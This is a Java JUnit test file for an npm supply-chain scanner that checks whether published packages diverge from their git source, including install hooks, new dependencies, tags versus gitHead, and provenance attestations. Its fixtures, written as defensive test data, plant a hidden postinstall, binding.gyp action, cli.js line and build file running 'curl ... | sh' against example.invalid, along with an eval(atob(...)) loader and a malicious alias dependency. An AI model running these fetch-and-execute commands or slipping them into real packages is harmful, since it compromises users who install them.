package dev.divergence.registry.npm;

import static dev.divergence.fixtures.ScanWorld.row;
import static dev.divergence.fixtures.Trees.files;
import static dev.divergence.fixtures.Trees.with;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.divergence.demo.GitHistoryBuilder;
import dev.divergence.fixtures.LocalNpm;
import dev.divergence.fixtures.ScanWorld;
import dev.divergence.model.ArtifactReport;
import dev.divergence.model.DigestStatus;
import dev.divergence.model.FileDivergence;
import dev.divergence.model.FileStatus;
import dev.divergence.model.PackageId;
import dev.divergence.model.RefMethod;
import dev.divergence.model.Release;
import dev.divergence.model.ReleaseReport;
import dev.divergence.model.RiskFlag;
import dev.divergence.model.Verdict;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Base64;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.SortedMap;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** npm end to end against recorded-style packuments served locally and repositories written with JGit. */
class NpmScanTest {

    @TempDir
    Path dir;
    private GitHistoryBuilder git;
    private Instant when = Instant.parse("2026-01-01T00:00:00Z");

    @BeforeEach
    void repo() throws Exception {
        git = GitHistoryBuilder.init(dir.resolve("repo"));
    }

    private String commit(SortedMap<String, byte[]> tree, String message) throws Exception {
        when = when.plusSeconds(3600);
        return git.commit(tree, message, when);
    }

    private static String pkgJson(String name, String version, String extra) {
        return "{\n  \"name\": \"" + name + "\",\n  \"version\": \"" + version + "\",\n  \"main\": \"./index.js\",\n"
                + "  \"bin\": \"./cli.js\",\n  \"repository\": \"github:acme/widget\"" + extra + "\n}\n";
    }

    private ReleaseReport scan(LocalNpm npm, String pkg, String version) throws Exception {
        npm.write();
        NpmSupport support = new NpmSupport(npm.baseUrl(), ScanWorld.fetcher());
        Release r = support.registry().releases(PackageId.parse(pkg)).stream()
                .filter(x -> x.version().equals(version)).findFirst().orElseThrow();
        return ScanWorld.scanner(support, dir).scan(r, Optional.of(git.dir().toString()));
    }

    @Test
    void scopedMonorepoPackageWithPublishRewriteBuildOutputAndCaseRenameIsExplained() throws Exception {
        SortedMap<String, byte[]> tree = files(
                "README.md", "# monorepo\n",
                "packages/widget/package.json", "{\n  \"name\": \"@acme/widget\",\n  \"version\": \"1.2.0\",\n"
                        + "  \"main\": \"./index.js\",\n  \"bin\": \"./cli.js\",\n"
                        + "  \"repository\": {\"type\": \"git\", \"url\": \"https://github.com/acme/widget\","
                        + " \"directory\": \"packages/widget\"},\n"
                        + "  \"dependencies\": {\"@acme/util\": \"workspace:^\"},\n  \"publishConfig\": {\"access\": \"public\"}\n}\n",
                "packages/widget/index.js", "module.exports = require('./lib/impl');\n",
                "packages/widget/cli.js", "#!/usr/bin/env node\nrequire('./index');\n",
                "packages/widget/Readme.md", "# widget\n",
                "packages/widget/src/impl.ts", "export const x = 1;\n",
                "packages/util/package.json", "{\"name\": \"@acme/util\", \"version\": \"1.0.0\"}\n");
        String c = commit(tree, "widget 1.2.0");
        git.tag("@acme/widget@1.2.0", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "@acme/widget")) {
            ObjectNode v = npm.publish("1.2.0", files(
                    "package.json", "{\"name\":\"@acme/widget\",\"version\":\"1.2.0\",\"main\":\"index.js\","
                            + "\"bin\":{\"widget\":\"cli.js\"},\"repository\":{\"type\":\"git\","
                            + "\"url\":\"git+https://github.com/acme/widget.git\",\"directory\":\"packages/widget\"},"
                            + "\"dependencies\":{\"@acme/util\":\"^1.0.0\"}}",
                    "index.js", "module.exports = require('./lib/impl');\n",
                    "cli.js", "#!/usr/bin/env node\nrequire('./index');\n",
                    "README.md", "# widget\n",
                    "lib/impl.js", "exports.x = 1;\n",
                    "lib/impl.d.ts", "export declare const x = 1;\n"));
            ObjectNode repo = v.putObject("repository");
            repo.put("type", "git");
            repo.put("url", "git+https://github.com/acme/widget.git");
            repo.put("directory", "packages/widget");
            ReleaseReport r = scan(npm, "pkg:npm/%40acme/widget", "1.2.0");
            assertEquals(RefMethod.TAG, r.ref().method());
            assertEquals(c, r.ref().commit().orElseThrow());
            assertEquals(List.of("https://github.com/acme/widget"), r.release().hints().repositoryUrls());
            assertEquals(Optional.of("packages/widget"), r.release().hints().directory());
            ArtifactReport a = r.artifacts().get(0);
            assertEquals(DigestStatus.VERIFIED, a.digestStatus());
            FileDivergence pj = row(a, "package/package.json");
            assertEquals(FileStatus.MATCH_NORMALIZED, pj.status());
            assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, pj.ruleId());
            assertEquals("packages/widget/package.json", pj.sourcePath().orElseThrow());
            assertEquals(FileStatus.MATCH, row(a, "package/index.js").status());
            FileDivergence readme = row(a, "package/README.md");
            assertEquals(FileStatus.MATCH_NORMALIZED, readme.status());
            assertEquals("packages/widget/Readme.md", readme.sourcePath().orElseThrow());
            assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/lib/impl.js").status());
            assertEquals(NpmGeneratedFiles.BUILD_OUTPUT, row(a, "package/lib/impl.d.ts").ruleId());
            assertEquals(FileStatus.SOURCE_ONLY, row(a, "packages/widget/src/impl.ts").status());
            assertTrue(a.files().stream().noneMatch(f -> f.displayPath().startsWith("packages/util")),
                    "the sibling package is outside the directory's scope");
            assertEquals(Verdict.EXPLAINED, r.verdict());
        }
    }

    @Test
    void addedPostinstallWithANewFileIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "2.0.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        commit(tree, "2.0.0");
        git.tag("v2.0.0", false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("2.0.1", with(tree,
                    "package.json", pkgJson("widget", "2.0.1", ",\n  \"scripts\": {\"postinstall\": \"node setup_bun.js\"}"),
                    "setup_bun.js", "require('child_process').execSync('curl -s https://example.invalid | sh');\n"));
            ReleaseReport r = scan(npm, "pkg:npm/widget", "2.0.1");
            ArtifactReport a = r.artifacts().get(0);
            FileDivergence pj = row(a, "package/package.json");
            assertEquals(FileStatus.MODIFIED, pj.status());
            assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
            assertTrue(pj.riskFlags().contains(RiskFlag.INSTALL_SCRIPT));
            assertTrue(pj.highRisk());
            assertEquals("adds postinstall: node setup_bun.js", pj.detail().orElseThrow());
            FileDivergence script = row(a, "package/setup_bun.js");
            assertEquals(FileStatus.PHANTOM, script.status());
            // The file the new postinstall runs is execution-relevant in its own right.
            assertTrue(script.riskFlags().contains(RiskFlag.AUTO_EXEC));
            assertEquals(Verdict.HIGH_RISK, r.verdict());
            assertEquals(List.of("package/package.json", "package/setup_bun.js"), a.highRiskPaths());
        }
    }

    @Test
    void aNewDependencyAloneIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "3.0.0",
                ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\"},\n  \"devDependencies\": {\"tap\": \"^18\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        commit(tree, "3.0.0");
        git.tag("v3.0.0", true);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("3.0.0", with(tree, "package.json", pkgJson("widget", "3.0.0",
                    ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\", \"tap\": \"^18\", \"plain-crypto-js\": \"^4.2.1\"},\n"
                            + "  \"devDependencies\": {\"tap\": \"^18\"}")));
            ReleaseReport r = scan(npm, "pkg:npm/widget", "3.0.0");
            FileDivergence pj = row(r.artifacts().get(0), "package/package.json");
            assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
            assertEquals(Set.of(RiskFlag.NEW_DEPENDENCY), pj.riskFlags());
            assertEquals("new dependencies [plain-crypto-js, tap]", pj.detail().orElseThrow());
            assertEquals(Verdict.HIGH_RISK, r.verdict());
            // Every other file is identical: the manifest alone decides.
            assertEquals(1, r.artifacts().get(0).divergentPaths().size());
        }
    }

    @Test
    void theTagIsPreferredToGitHeadAndTheirDisagreementIsAFinding() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.0.0", ""), "index.js", "a\n",
                "cli.js", "b\n");
        String tagged = commit(tree, "4.0.0");
        git.tag("widget@4.0.0", true);
        String head = commit(with(tree, "CHANGELOG.md", "4.0.0\n"), "changelog");
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("4.0.0", tree).put("gitHead", head);
            ReleaseReport r = scan(npm, "pkg:npm/widget", "4.0.0");
            // gitHead is written by the publisher (a stolen token can write it); the tag cannot be pushed with one.
            assertEquals(RefMethod.TAG, r.ref().method());
            assertEquals(tagged, r.ref().commit().orElseThrow());
            assertEquals(Optional.of("widget@4.0.0"), r.ref().tag());
            assertFalse(r.ref().agreement().orElseThrow());
            assertTrue(r.ref().note().orElseThrow().startsWith("registry-recorded commit " + head.substring(0, 12)
                    + " is the publisher's claim; compared with tag widget@4.0.0 " + tagged.substring(0, 12)
                    + " instead"), r.ref().note().orElseThrow());
        }
    }

    @Test
    void provenanceAttestationNamesTheCommitAndDisagreesWithAMovedTag() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "5.0.0", ""), "index.js", "a\n",
                "cli.js", "b\n");
        String built = commit(tree, "5.0.0");
        String other = commit(with(tree, "index.js", "changed later\n"), "later");
        git.tag("v5.0.0", false); // the tag sits on a later commit than the one CI built
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            ObjectNode v = npm.publish("5.0.0", tree);
            String sha512 = java.util.HexFormat.of().formatHex(Base64.getDecoder()
                    .decode(v.path("dist").path("integrity").asText().substring("sha512-".length())));
            String statement = "{\"_type\":\"https://in-toto.io/Statement/v1\",\"subject\":[{\"name\":\"pkg:npm/widget@5.0.0\","
                    + "\"digest\":{\"sha512\":\"" + sha512 + "\"}}],\"predicateType\":\"https://slsa.dev/provenance/v1\","
                    + "\"predicate\":{\"buildDefinition\":{\"resolvedDependencies\":[{\"uri\":"
                    + "\"git+https://github.com/acme/widget@refs/heads/main\",\"digest\":{\"gitCommit\":\"" + built + "\"}}]}}}";
            String doc = "{\"attestations\":[{\"predicateType\":\"https://slsa.dev/provenance/v1\",\"bundle\":{"
                    + "\"dsseEnvelope\":{\"payloadType\":\"application/vnd.in-toto+json\",\"payload\":\""
                    + Base64.getEncoder().encodeToString(statement.getBytes(StandardCharsets.UTF_8)) + "\"}}}]}";
            Path att = npm.root().resolve("-/npm/v1/attestations/widget@5.0.0");
            Files.createDirectories(att.getParent());
            Files.writeString(att, doc);
            v.with("dist").putObject("attestations").put("url", npm.baseUrl() + "/-/npm/v1/attestations/widget@5.0.0");
            ReleaseReport r = scan(npm, "pkg:npm/widget", "5.0.0");
            assertEquals(RefMethod.ATTESTATION, r.ref().method());
            assertEquals(built, r.ref().commit().orElseThrow());
            assertTrue(r.ref().candidates().containsAll(List.of("attestation:" + built, "tag:v5.0.0=" + other)));
            assertFalse(r.ref().agreement().orElseThrow());
            assertEquals(Verdict.CLEAN, r.verdict());
        }
    }

    @Test
    void packumentListsDeprecatedAndUnpublishedVersions() throws Exception {
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish("1.0.0", files("package.json", "{}")).put("deprecated", "use 2.x");
            npm.publish("2.0.0", files("package.json", "{}"));
            ((ObjectNode) npm.packument().get("time")).put("1.5.0", "2026-01-15T00:00:00.000Z");
            npm.write();
            List<Release> rs = new NpmRegistry(npm.baseUrl(), ScanWorld.fetcher()).releases(PackageId.parse("pkg:npm/widget"));
            assertEquals(List.of("1.0.0", "1.5.0", "2.0.0"), rs.stream().map(Release::version).toList());
            assertTrue(rs.get(0).yanked());
            assertEquals(Optional.of("deprecated: use 2.x"), rs.get(0).yankedReason());
            assertEquals(List.of(), rs.get(1).artifacts());
            assertEquals(Optional.of("unpublished from the registry"), rs.get(1).yankedReason());
            assertEquals(Set.of("sha512", "sha1"), rs.get(2).artifacts().get(0).digests().keySet());
        }
    }

    private ArtifactReport publishAndScan(SortedMap<String, byte[]> tree, String version, SortedMap<String, byte[]> shipped)
            throws Exception {
        commit(tree, version);
        git.tag("v" + version, false);
        try (LocalNpm npm = new LocalNpm(dir.resolve("npm"), "widget")) {
            npm.publish(version, shipped);
            return scan(npm, "pkg:npm/widget", version).artifacts().get(0);
        }
    }

    @Test
    void scriptsThatDoNotRunOnAConsumersInstallAreAFindingNotHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.0.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.0.0", with(tree, "package.json", pkgJson("widget", "4.0.0",
                ",\n  \"scripts\": {\"prepare\": \"node build.js\", \"prepublishOnly\": \"npm test\", \"postpack\": \"rm x\"}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(FileStatus.MODIFIED, pj.status());
        assertEquals(NpmGeneratedFiles.PUBLISHER_SCRIPT, pj.ruleId());
        assertFalse(pj.highRisk());
        assertEquals("adds prepare: node build.js (not run on install); adds postpack: rm x (not run on install); "
                + "adds prepublishOnly: npm test (not run on install)", pj.detail().orElseThrow());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void filesThatBinMainAndExportsLoadAreEntryModulesJudgedByWhatWasAdded() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.1.0",
                        ",\n  \"exports\": {\".\": \"./index.js\", \"./feature\": {\"require\": \"./lib/feature.js\"},"
                                + " \"./plugins/*\": \"./plugins/*.js\", \"./package.json\": \"./package.json\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "lib/feature.js", "exports.f = 1;\n", "plugins/a.js", "exports.a = 1;\n", "notes.js", "// notes\n");
        ArtifactReport a = publishAndScan(tree, "4.1.0", with(tree,
                "cli.js", "require('./index');\nrequire('child_process').execSync('curl -s https://example.invalid | sh');\n",
                "lib/feature.js", "exports.f = 2;\n", "plugins/a.js", "exports.a = 2;\n", "notes.js", "// more notes\n"));
        for (String p : List.of("package/cli.js", "package/lib/feature.js", "package/plugins/a.js")) {
            FileDivergence f = row(a, p);
            assertEquals(FileStatus.MODIFIED, f.status(), p);
            assertTrue(f.riskFlags().contains(RiskFlag.ENTRY_MODULE), p);
            assertFalse(f.riskFlags().contains(RiskFlag.AUTO_EXEC), p);
        }
        // the bin target's added lines spawn a shell; the other entry modules changed a constant
        assertTrue(row(a, "package/cli.js").highRisk());
        assertFalse(row(a, "package/lib/feature.js").highRisk());
        assertFalse(row(a, "package/plugins/a.js").highRisk());
        FileDivergence notes = row(a, "package/notes.js");
        assertEquals(FileStatus.MODIFIED, notes.status());
        assertFalse(notes.riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertEquals(List.of("package/cli.js"), a.highRiskPaths().stream().sorted().toList());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aPackageJsonListedInExportsIsDataNotAnEntryModule() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.1.1-rc.0",
                        ",\n  \"exports\": {\".\": \"./index.js\", \"./package.json\": \"./package.json\"}"),
                "index.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "4.1.1-rc.0", with(tree, "index.js", "module.exports = 2;\n"));
        assertFalse(row(a, "package/package.json").riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertFalse(row(a, "package/package.json").riskFlags().contains(RiskFlag.AUTO_EXEC));
        FileDivergence index = row(a, "package/index.js");
        assertEquals(FileStatus.MODIFIED, index.status());
        assertTrue(index.riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertFalse(index.highRisk());
        assertEquals(Verdict.DIVERGENT, a.verdict());
    }

    @Test
    void aBindingGypTheSourceLacksRunsOnInstallAndIsHighRisk() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.2.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        String gyp = "{'targets': [{'target_name': 'x', 'actions': [{'action': ['sh', '-c', 'curl example.invalid | sh']}]}]}\n";
        ArtifactReport a = publishAndScan(tree, "4.2.0", with(tree, "binding.gyp", gyp, "package.json",
                pkgJson("widget", "4.2.0", ",\n  \"scripts\": {\"install\": \"node-gyp rebuild\"}")));
        FileDivergence g = row(a, "package/binding.gyp");
        assertEquals(FileStatus.PHANTOM, g.status());
        assertTrue(g.riskFlags().contains(RiskFlag.AUTO_EXEC));
        assertTrue(g.highRisk());
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.INSTALL_SCRIPT, pj.ruleId());
        assertTrue(pj.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void npmsOwnNodeGypInstallScriptIsExplainedWhenTheSourceHasTheBindingGyp() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.3.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n",
                "binding.gyp", "{'targets': [{'target_name': 'x', 'sources': ['x.cc']}]}\n");
        ArtifactReport a = publishAndScan(tree, "4.3.0", with(tree, "package.json",
                pkgJson("widget", "4.3.0", ",\n  \"scripts\": {\"install\": \"node-gyp rebuild\"},\n  \"gypfile\": true")));
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, row(a, "package/package.json").ruleId());
        FileDivergence g = row(a, "package/binding.gyp");
        assertEquals(FileStatus.MATCH, g.status());
        assertTrue(g.riskFlags().contains(RiskFlag.AUTO_EXEC));
        assertEquals(Verdict.EXPLAINED, a.verdict());
    }

    @Test
    void anAliasUrlOrGitSpecUnderADeclaredNameIsANewDependency() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.4.0",
                        ",\n  \"dependencies\": {\"left-pad\": \"^1.0.0\", \"@acme/util\": \"workspace:^\", \"chalk\": \"^5.0.0\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.4.0", with(tree, "package.json", pkgJson("widget", "4.4.0",
                ",\n  \"dependencies\": {\"left-pad\": \"npm:evil-pad@1.0.0\", \"@acme/util\": "
                        + "\"git+https://example.invalid/util.git\", \"chalk\": \"^5.0.0\"}")));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.NEW_DEPENDENCY, pj.ruleId());
        assertTrue(pj.riskFlags().contains(RiskFlag.NEW_DEPENDENCY));
        assertTrue(pj.highRisk());
        assertEquals("new dependencies [@acme/util git+https://example.invalid/util.git (source: workspace:^), "
                + "left-pad npm:evil-pad@1.0.0 (source: ^1.0.0)]", pj.detail().orElseThrow());
    }

    @Test
    void publishConfigIsAppliedFromTheSourceOnlyNeverFromThePublishedManifest() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.5.0",
                        ",\n  \"publishConfig\": {\"bin\": \"./dist/cli.js\"}"),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        // honest: the source's publishConfig moved bin to dist/ at publish
        ArtifactReport honest = publishAndScan(tree, "4.5.0", with(tree, "dist/cli.js", "require('../index');\n",
                "package.json", "{\"name\":\"widget\",\"version\":\"4.5.0\",\"main\":\"index.js\",\"bin\":{\"widget\":\"dist/cli.js\"},"
                        + "\"repository\":\"github:acme/widget\",\"publishConfig\":{\"bin\":\"./dist/cli.js\"}}"));
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_REWRITE, row(honest, "package/package.json").ruleId());
        assertEquals(FileStatus.BUILD_OUTPUT, row(honest, "package/dist/cli.js").status());
        assertEquals(Verdict.EXPLAINED, honest.verdict());
    }

    @Test
    void aPublishedManifestsOwnPublishConfigDoesNotExplainItsMain() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.6.0", ""),
                "index.js", "module.exports = 1;\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.6.0", with(tree, "loader.js", "module.exports = require('./index');\n",
                "package.json", "{\"name\":\"widget\",\"version\":\"4.6.0\",\"main\":\"loader.js\",\"bin\":\"./cli.js\","
                        + "\"repository\":\"github:acme/widget\",\"publishConfig\":{\"main\":\"./index.js\"}}"));
        FileDivergence pj = row(a, "package/package.json");
        assertEquals(NpmGeneratedFiles.PACKAGE_JSON_DIFFERS, pj.ruleId());
        assertEquals("package.json fields differ: [main]", pj.detail().orElseThrow());
        FileDivergence loader = row(a, "package/loader.js");
        assertEquals(FileStatus.PHANTOM, loader.status());
        assertTrue(loader.riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertTrue(loader.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void buildOutputIsContentScannedAndCountedAsUnverified() throws Exception {
        SortedMap<String, byte[]> tree = files("package.json", pkgJson("widget", "4.7.0", ""),
                "index.js", "module.exports = require('./dist/impl');\n", "cli.js", "require('./index');\n");
        ArtifactReport a = publishAndScan(tree, "4.7.0", with(tree,
                "dist/impl.js", "exports.x = /a(b)/.exec(s) + String.fromCharCode(65) + Function(\"return this\")();\n"
                        + "//# sourceMappingURL=data:application/json;charset=utf-8;base64,"
                        + Base64.getEncoder().encodeToString(new byte[900]) + "\n",
                "dist/boot.js", "module.exports = eval(atob(process.env.X));\n",
                "dist/blob.js", "module.exports = '" + Base64.getEncoder().encodeToString(new byte[900]) + "';\n",
                "dist/impl.min.js", "exports.x=1;".repeat(400) + "\n",
                "dist/telemetry.js", "require('child_process').exec('curl -s https://example.invalid | sh');\n"));
        assertEquals(FileStatus.BUILD_OUTPUT, row(a, "package/dist/impl.js").status());
        assertFalse(row(a, "package/dist/impl.js").highRisk());
        assertFalse(row(a, "package/dist/impl.min.js").highRisk(), "minified alone is expected in build output");
        FileDivergence t = row(a, "package/dist/telemetry.js");
        assertEquals(FileStatus.BUILD_OUTPUT, t.status());
        assertEquals(NpmGeneratedFiles.BUILD_OUTPUT, t.ruleId());
        assertTrue(t.riskFlags().contains(RiskFlag.DYNAMIC_EXEC));
        assertTrue(t.highRisk());
        // regex .exec(, fromCharCode, the Function("return this") shim and an inline source map are what bundles hold
        assertEquals(Set.of(RiskFlag.CODE), row(a, "package/dist/impl.js").riskFlags());
        assertTrue(row(a, "package/dist/boot.js").riskFlags().contains(RiskFlag.DYNAMIC_EXEC));
        assertTrue(row(a, "package/dist/blob.js").riskFlags().contains(RiskFlag.ENCODED_BLOB));
        assertEquals(List.of("package/dist/blob.js", "package/dist/boot.js", "package/dist/telemetry.js"),
                a.highRiskPaths().stream().sorted().toList());
        assertEquals(5, dev.divergence.compare.Verdicts.unverifiedCount(a.files()));
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }

    @Test
    void aFileMainLoadsIsNotExcusedAsAccidentalJunk() throws Exception {
        String manifest = "{\"name\":\"widget\",\"version\":\"4.8.0\",\"main\":\"coverage/boot.js\","
                + "\"repository\":\"github:acme/widget\"}\n";
        SortedMap<String, byte[]> tree = files("package.json", manifest, "index.js", "module.exports = 1;\n");
        ArtifactReport a = publishAndScan(tree, "4.8.0", with(tree, "coverage/boot.js", "module.exports = require('../index');\n",
                "coverage/lcov.info", "TN:\n"));
        FileDivergence junk = row(a, "package/coverage/lcov.info");
        assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, junk.ruleId());
        assertFalse(junk.highRisk());
        FileDivergence boot = row(a, "package/coverage/boot.js");
        assertEquals(NpmGeneratedFiles.ACCIDENTAL_JUNK, boot.ruleId());
        assertTrue(boot.riskFlags().contains(RiskFlag.ENTRY_MODULE));
        assertTrue(boot.highRisk());
        assertEquals(Verdict.HIGH_RISK, a.verdict());
    }
}
